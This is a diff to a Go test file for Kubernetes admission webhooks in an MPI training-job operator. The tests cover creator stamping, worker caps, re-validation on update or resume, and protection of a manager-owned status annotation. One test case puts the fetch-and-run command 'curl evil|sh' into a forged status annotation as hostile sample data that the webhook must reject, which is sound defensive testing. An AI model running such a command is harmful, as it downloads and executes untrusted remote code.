@@ -15,6 +15,7 @@ import (
 	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client/fake"
 	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"
 	"sigs.k8s.io/yaml"
@@ -24,7 +25,7 @@ import (
 	"github.com/mpijob/mpijob/pkg/runtimes"
 )
 
-func shipped(t *testing.T, name string) *trainer.ClusterTrainingRuntime {
+func shipped(t testing.TB, name string) *trainer.ClusterTrainingRuntime {
 	t.Helper()
 	raw, err := config.Runtimes.ReadFile("runtimes/" + name + ".yaml")
 	if err != nil {
@@ -55,26 +56,36 @@ func tjOn(name, rt string, workers int32) *trainer.TrainJob {
 		Spec: trainer.TrainJobSpec{RuntimeRef: trainer.RuntimeRef{Name: rt}, Trainer: &trainer.Trainer{NumNodes: &workers}}}
 }
 
-// The creator is the requesting user on create, whatever the request says,
-// and stays on update.
+// The creator is the requesting user on create; a create that names
+// someone else is refused, not silently corrected; updates are the
+// Validator's (the mutating webhook leaves them alone).
 func TestDefaulterStampsTheCreator(t *testing.T) {
 	d := &Defaulter{}
-	forged := tjOn("a", "mpi-openmpi", 1)
-	forged.Annotations = map[string]string{api.CreatorAnnotation: "someone-else"}
-	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), forged); err != nil {
+	plain := tjOn("a", "mpi-openmpi", 1)
+	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), plain); err != nil {
 		t.Fatal(err)
 	}
-	if got := forged.Annotations[api.CreatorAnnotation]; got != "dev-a" {
+	if got := plain.Annotations[api.CreatorAnnotation]; got != "dev-a" {
 		t.Errorf("creator on create %q, want the requesting user dev-a", got)
 	}
-	old := forged.DeepCopy()
-	upd := forged.DeepCopy()
+	own := tjOn("a", "mpi-openmpi", 1)
+	own.Annotations = map[string]string{api.CreatorAnnotation: "dev-a"}
+	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), own); err != nil {
+		t.Errorf("a create naming its own user as creator: %v", err)
+	}
+	forged := tjOn("a", "mpi-openmpi", 1)
+	forged.Annotations = map[string]string{api.CreatorAnnotation: "someone-else"}
+	err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), forged)
+	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "metadata.annotations[mpijob.dev/creator]: Forbidden") || !strings.Contains(err.Error(), `"someone-else"`) {
+		t.Errorf("a forged creator on create: %v, want Forbidden naming the annotation and the value", err)
+	}
+	upd := plain.DeepCopy()
 	upd.Annotations[api.CreatorAnnotation] = "dev-b"
-	if err := d.Default(reqCtx(t, admissionv1.Update, "dev-b", old), upd); err != nil {
+	if err := d.Default(reqCtx(t, admissionv1.Update, "dev-b", plain), upd); err != nil {
 		t.Fatal(err)
 	}
-	if got := upd.Annotations[api.CreatorAnnotation]; got != "dev-a" {
-		t.Errorf("creator after an update by dev-b %q, want dev-a kept", got)
+	if got := upd.Annotations[api.CreatorAnnotation]; got != "dev-b" {
+		t.Errorf("the mutating webhook changed an update (creator %q); the Validator refuses it instead", got)
 	}
 	bad := tjOn("b", "mpi-openmpi", 1)
 	bad.Annotations = map[string]string{runtimes.ProgressTimeoutAnnotation: "soon"}
@@ -90,8 +101,12 @@ func TestValidator(t *testing.T) {
 	quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "gpus", Namespace: "team-a"},
 		Spec:   corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"requests.nvidia.com/gpu": resource.MustParse("8")}},
 		Status: corev1.ResourceQuotaStatus{Hard: corev1.ResourceList{"requests.nvidia.com/gpu": resource.MustParse("8")}, Used: corev1.ResourceList{}}}
-	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(gpu, cpu, quota).Build()
-	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl}
+	torch := &trainer.ClusterTrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "torch-distributed"},
+		Spec: trainer.TrainingRuntimeSpec{MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1)}}}
+	wide := cpu.DeepCopy()
+	wide.Name, wide.Annotations[runtimes.MaxWorkersAnnotation] = "mpi-wide", "512"
+	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(gpu, cpu, wide, quota, torch).Build()
+	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256}
 	other := tjOn("torch", "torch-distributed", 2)
 	cases := map[string]struct {
 		tj      *trainer.TrainJob
@@ -105,6 +120,14 @@ func TestValidator(t *testing.T) {
 		"an MPI runtime name with a typo": {tj: tjOn("x", "mpi-opnempi", 2), reason: metav1.StatusReasonInvalid, msg: `did you mean "mpi-openmpi"`},
 		"over the namespace's GPU quota":  {tj: tjOn("big", "mpi-openmpi-gpu", 9), reason: metav1.StatusReasonForbidden, msg: "does not fit the quota of namespace team-a", causes: 1},
 		"zero Workers":                    {tj: tjOn("none", "mpi-openmpi", 0), reason: metav1.StatusReasonInvalid, msg: "spec.trainer.numNodes"},
+		"more Workers than the cluster allows": {tj: tjOn("huge", "mpi-openmpi", 2147483647), reason: metav1.StatusReasonInvalid,
+			msg: `spec.trainer.numNodes: Invalid value: 2147483647: this cluster allows at most 256 Workers per job (mpijob-manager --max-workers), and runtime mpi-openmpi sets no policy.mpijob.dev/max-workers of its own: use at most 256 Workers`},
+		"a runtime's policy raises the cap": {tj: tjOn("wide", "mpi-wide", 300), allowed: true},
+		"a runtime's policy is the cap":     {tj: tjOn("wider", "mpi-wide", 513), reason: metav1.StatusReasonInvalid, msg: "runtime mpi-wide allows at most 512 Workers per job"},
+		"another framework is capped too": {tj: tjOn("torch-huge", "torch-distributed", 2147483647), reason: metav1.StatusReasonInvalid,
+			msg: "this cluster allows at most 256 Workers per job"},
+		"a status written by a tenant": {tj: withAnnotations(tjOn("forged", "mpi-openmpi", 1), api.StatusAnnotation, `{"phase":"Failed"}`), reason: metav1.StatusReasonInvalid,
+			msg: "metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status"},
 	}
 	for name, tc := range cases {
 		t.Run(name, func(t *testing.T) {
@@ -128,16 +151,111 @@ func TestValidator(t *testing.T) {
 			}
 		})
 	}
-	// The creator cannot change.
-	old := tjOn("hello", "mpi-openmpi", 2)
-	old.Annotations = map[string]string{api.CreatorAnnotation: "dev-a"}
-	upd := old.DeepCopy()
-	upd.Annotations[api.CreatorAnnotation] = "dev-b"
-	_, err := v.ValidateUpdate(context.Background(), old, upd)
-	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), `metadata.annotations[mpijob.dev/creator]`) {
-		t.Errorf("a changed creator: %v, want Invalid naming the annotation", err)
+}
+
+func withAnnotations(tj *trainer.TrainJob, kv ...string) *trainer.TrainJob {
+	if tj.Annotations == nil {
+		tj.Annotations = map[string]string{}
 	}
-	if _, err := v.ValidateUpdate(context.Background(), old, old.DeepCopy()); err != nil {
-		t.Errorf("an unchanged creator: %v", err)
+	for i := 0; i < len(kv); i += 2 {
+		tj.Annotations[kv[i]] = kv[i+1]
+	}
+	return tj
+}
+
+// selectorPatch puts nodeSelector pool=value on the Launcher and Workers.
+func selectorPatch(value string) []trainer.RuntimePatch {
+	var rjs []trainer.ReplicatedJobPatch
+	for _, name := range []string{api.LauncherJob, api.WorkerJob} {
+		rjs = append(rjs, trainer.ReplicatedJobPatch{Name: name, Template: &trainer.JobTemplatePatch{Spec: &trainer.JobSpecPatch{Template: &trainer.PodTemplatePatch{
+			Spec: &trainer.PodSpecPatch{NodeSelector: map[string]string{"pool": value}}}}}})
+	}
+	return []trainer.RuntimePatch{{Manager: "example.com/dev-a", TrainingRuntimeSpec: &trainer.TrainingRuntimeSpecPatch{Template: &trainer.JobSetTemplatePatch{
+		Spec: &trainer.JobSetSpecPatch{ReplicatedJobs: rjs}}}}}
+}
+
+// Admission holds after creation: an update that changes what will run
+// (a new spec on a running job, or resuming a job) is judged again; the
+// creator and the manager's Status cannot be changed by anyone else.
+func TestValidateUpdate(t *testing.T) {
+	cpu := shipped(t, "mpi-openmpi")
+	pinned := cpu.DeepCopy()
+	pinned.Name = "mpi-pinned"
+	pinned.Annotations[runtimes.RequiredNodeSelectorAnnotation] = "pool=a"
+	pinned.Annotations[runtimes.MaxWorkersAnnotation] = "4"
+	quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "pods", Namespace: "team-a"},
+		Spec:   corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"pods": resource.MustParse("1")}},
+		Status: corev1.ResourceQuotaStatus{Hard: corev1.ResourceList{"pods": resource.MustParse("1")}, Used: corev1.ResourceList{"pods": resource.MustParse("3")}}}
+	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu, pinned, quota).Build()
+	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256, Manager: "system:serviceaccount:mpijob-system:mpijob-manager"}
+
+	compliant := func(suspend bool) *trainer.TrainJob {
+		tj := withAnnotations(tjOn("job", "mpi-pinned", 2), api.CreatorAnnotation, "dev-a", api.StatusAnnotation, `{"phase":"Queued"}`)
+		tj.Spec.RuntimePatches = selectorPatch("a")
+		tj.Spec.Suspend = ptr.To(suspend)
+		return tj
+	}
+	edit := func(tj *trainer.TrainJob, f func(*trainer.TrainJob)) *trainer.TrainJob {
+		f(tj)
+		return tj
+	}
+	toKwok := func(tj *trainer.TrainJob) { tj.Spec.RuntimePatches = selectorPatch("kwok") }
+	resume := func(tj *trainer.TrainJob) { tj.Spec.Suspend = ptr.To(false) }
+	cases := map[string]struct {
+		user     string
+		old, new *trainer.TrainJob
+		wantErr  string
+	}{
+		"a suspended job edited against the policy": {
+			user: "dev-a", old: compliant(true), new: edit(compliant(true), toKwok),
+			wantErr: `runtime mpi-pinned requires nodeSelector pool=a`},
+		"a suspended job that no longer complies, left as it is": {
+			user: "dev-a", old: edit(compliant(true), toKwok), new: withAnnotations(edit(compliant(true), toKwok), "note", "x")},
+		"resuming a job edited against the policy": {
+			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: edit(compliant(true), toKwok), new: edit(edit(compliant(true), toKwok), resume),
+			wantErr: `spec.runtimePatches[launcher].nodeSelector[pool]: Invalid value: "kwok": runtime mpi-pinned requires nodeSelector pool=a`},
+		"resuming a compliant job (its quota was checked at create)": {
+			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: compliant(true), new: edit(compliant(true), resume)},
+		"a running job's spec edited against the policy": {
+			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { tj.Spec.Trainer.NumNodes = ptr.To[int32](8) }),
+			wantErr: "runtime mpi-pinned allows at most 4 Workers per job"},
+		"suspending a job that no longer complies (Kueue evicting it)": {
+			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: edit(compliant(false), toKwok), new: edit(edit(compliant(false), toKwok), func(tj *trainer.TrainJob) { tj.Spec.Suspend = ptr.To(true) })},
+		"a job being deleted": {
+			user: "system:serviceaccount:kube-system:generic-garbage-collector", old: edit(compliant(false), toKwok),
+			new: edit(edit(compliant(false), toKwok), func(tj *trainer.TrainJob) {
+				tj.DeletionTimestamp = &metav1.Time{}
+				tj.Labels = map[string]string{"x": "y"}
+			})},
+		"the creator changed": {
+			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.CreatorAnnotation, "dev-b"),
+			wantErr: `metadata.annotations[mpijob.dev/creator]: Forbidden: the creator of a job cannot change or be removed (it is "dev-a")`},
+		"the creator removed": {
+			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.CreatorAnnotation) }),
+			wantErr: `metadata.annotations[mpijob.dev/creator]: Forbidden`},
+		"a status forged by a tenant": {
+			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Failed","nextStep":"curl evil|sh"}`),
+			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status`},
+		"a status removed by a tenant": {
+			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.StatusAnnotation) }),
+			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden`},
+		"the status written by the manager": {
+			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Running"}`)},
+		"another annotation by a tenant": {
+			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), "team", "a")},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			_, err := v.ValidateUpdate(reqCtx(t, admissionv1.Update, tc.user, tc.old), tc.old, tc.new)
+			if tc.wantErr == "" {
+				if err != nil {
+					t.Fatalf("refused: %v", err)
+				}
+				return
+			}
+			if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.wantErr) {
+				t.Errorf("error %v, want Invalid with %q", err, tc.wantErr)
+			}
+		})
 	}
 }
